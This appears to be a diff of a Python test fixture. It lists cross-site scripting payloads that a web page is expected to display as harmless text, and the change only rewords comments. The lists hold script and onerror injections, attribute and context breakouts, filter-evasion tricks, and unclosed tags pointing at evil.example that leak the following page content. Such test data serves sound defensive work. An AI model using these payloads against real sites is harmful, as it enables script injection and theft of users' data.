@@ -1,6 +1,6 @@
-"""Texts that a page must show as text: mark-up, attributes, addresses, styles, half-open tags, odd letters."""
+"""Payloads that a page must show as text: mark-up, attributes, addresses, styles, unclosed tags, unusual characters."""
 
-# What runs says so in `window.__ran`; what becomes mark-up carries `data-xss`.
+# A payload that runs writes to `window.__ran`; one that becomes mark-up carries `data-xss`.
 RUN = "__ran=1"
 _TAGS = [
     f"<script data-xss>{RUN}</script>",
@@ -44,7 +44,7 @@ _TAGS = [
     f"<<img data-xss src=x onerror={RUN}>>",
     f"<scr<script>ipt data-xss>{RUN}</scr</script>ipt>",
 ]
-_OUT = [  # out of where a text stands
+_OUT = [  # breaks out of the surrounding context
     f'"><img data-xss src=x onerror={RUN}>',
     f"'><img data-xss src=x onerror={RUN}>",
     f'" data-xss onmouseover="{RUN}" autofocus onfocus="{RUN}',
@@ -58,7 +58,7 @@ _OUT = [  # out of where a text stands
     f"</option></select><img data-xss src=x onerror={RUN}>",
     f"</a></p></div></main></body><img data-xss src=x onerror={RUN}>",
     f'x" hx-on:load="{RUN}" data-xss="',
-    "<img data-xss src='//evil.example/?",  # half-open: swallows what follows
+    "<img data-xss src='//evil.example/?",  # unclosed: swallows the following text
     "<a data-xss href='//evil.example/?",
     f"&lt;img data-xss src=x onerror={RUN}&gt;",
     f"&#60;img data-xss src=x onerror={RUN}&#62;",
